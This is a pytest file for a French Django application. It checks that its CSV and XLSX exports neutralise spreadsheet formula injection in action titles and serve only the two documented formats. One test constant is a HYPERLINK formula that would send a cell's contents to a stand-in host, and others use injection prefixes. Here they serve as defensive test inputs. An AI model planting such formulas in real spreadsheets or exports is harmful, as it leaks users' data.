"""Security of the raw export: a typed title is never a formula, and only the documented formats answer."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from pilotactions.accounts.enums import RoleKind as R
from pilotactions.contracts.export import PEOPLE_KEYS
from tests.factories import login, make_action, make_contract, make_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'
TITLES = [FORMULA, "+33 1 23", "-ateliers", "@SOMME(A1)", "\tTabulation", "Aide alimentaire"]
EXPECTED_CSV = ["'" + FORMULA, "'+33 1 23", "'-ateliers", "'@SOMME(A1)", "'\tTabulation", "Aide alimentaire"]


@pytest.fixture
def actions():
    contract = make_contract("59")
    # Titles in reference order A001…A006; the first holds a budget for the amount columns.
    make_action(contract, title=TITLES[0], beneficiaries_target=12, lines=[(2024, "authority", "1500.25")])
    for title in TITLES[1:]:
        make_action(contract, title=title)


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_csv(text: str) -> None:
    rows = _csv_rows(text)
    assert [row["title"] for row in rows] == EXPECTED_CSV
    assert rows[0]["budget_authority"] == "1500.25" and rows[0]["beneficiaries_target"] == "12"  # numbers untouched


def _assert_people_csv(content: bytes) -> None:
    """The list's CSV for French Excel (BOM, `;`, decimal comma): the same protection."""
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff")), delimiter=";"))
    assert [row["Intitulé"] for row in rows] == EXPECTED_CSV
    assert rows[0]["Crédits de la collectivité (€)"] == "1500,25" and rows[0]["Bénéficiaires visés"] == "12"


def _assert_xlsx(content) -> None:
    sheet = load_workbook(content).active
    title_column = PEOPLE_KEYS.index("title") + 1
    cells = [sheet.cell(row=row, column=title_column) for row in range(2, 2 + len(TITLES))]
    assert [(cell.value, cell.data_type) for cell in cells] == [(title, "s") for title in TITLES]
    amount = sheet.cell(row=2, column=PEOPLE_KEYS.index("budget_authority") + 1)
    beneficiaries = sheet.cell(row=2, column=PEOPLE_KEYS.index("beneficiaries_target") + 1)
    assert (float(amount.value), amount.data_type) == (1500.25, "n")
    assert (beneficiaries.value, beneficiaries.data_type) == (12, "n")


def test_the_downloaded_exports_never_hold_a_formula(client, actions):
    login(client, make_role(R.NATIONAL_ADMIN))
    _assert_people_csv(b"".join(client.get("/contrats/export.csv").streaming_content))
    response = client.get("/contrats/export.xlsx")
    assert response.status_code == 200
    _assert_xlsx(io.BytesIO(b"".join(response.streaming_content)))


def test_the_command_exports_never_hold_a_formula(tmp_path, actions):
    out = tmp_path / "actions.csv"
    call_command("export_actions", format="csv", out=str(out))
    _assert_csv(out.read_text(encoding="utf-8"))
    buffer = io.StringIO()
    call_command("export_actions", out="-", stdout=buffer)
    _assert_csv(buffer.getvalue())
    out = tmp_path / "actions.xlsx"
    call_command("export_actions", format="xlsx", out=str(out))
    _assert_xlsx(out)


@pytest.mark.parametrize("extension", ["html", "pdf", "json", "CSV", "xlsx.html", "ods"])
def test_only_the_documented_formats_answer(client, actions, extension):
    login(client, make_role(R.NATIONAL_ADMIN))
    response = client.get(f"/contrats/export.{extension}")
    assert response.status_code == 404
    assert "Content-Disposition" not in response


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_documented_formats_answer(client, actions, extension):
    login(client, make_role(R.NATIONAL_ADMIN))
    response = client.get(f"/contrats/export.{extension}")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{extension}"')
